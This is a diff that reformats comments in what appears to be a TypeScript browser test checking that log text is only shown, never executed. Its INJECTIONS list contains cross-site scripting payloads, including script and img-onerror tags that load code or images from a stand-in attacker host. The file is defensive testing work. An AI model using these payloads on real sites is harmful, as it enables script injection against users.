@@ -1,11 +1,16 @@
-/** Log text that would like to be more than text: it is only ever shown. The rig notes what it must not bring about. */
+/**
+ * Log text that would like to be more than text: it is only ever shown. The rig notes what it must not bring
+ * about.
+ */
 
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import { ago, EDGE, KEY, postTo, RELAY, type Rig, relayEntry } from './rig.js';
 
 const FAR = 'https://attacker.example';
-/** Each would run, load or open something where text is taken for markup, an attribute, an address or code. */
+/**
+ * Each would run, load or open something where text is taken for markup, an attribute, an address or code.
+ */
 const INJECTIONS = [
   `<script>alert(1)</script><script src="${FAR}/a.js"></script>`,
   `<img src=x onerror="alert(2)"><img src="${FAR}/b.png">`,
